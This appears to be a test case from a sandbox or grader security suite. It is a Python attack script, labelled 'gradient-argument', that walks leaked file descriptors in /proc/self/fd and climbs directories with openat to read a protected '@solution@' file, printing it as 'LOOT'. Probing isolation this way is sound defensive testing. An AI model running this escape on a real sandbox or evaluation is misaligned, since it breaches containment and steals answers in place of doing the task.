# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# ///

# %% name="question"
import os

# A folder that was left open is a way out of any view.
for name in os.listdir("/proc/self/fd"):
    try:
        number = int(name)
        for way in ("../" * 12, ""):
            with open(os.open(f"{way}@solution@".lstrip("/"), os.O_RDONLY, dir_fd=number)) as file:
                print("LOOT:", file.read())
    except OSError:
        continue
print("DONE")
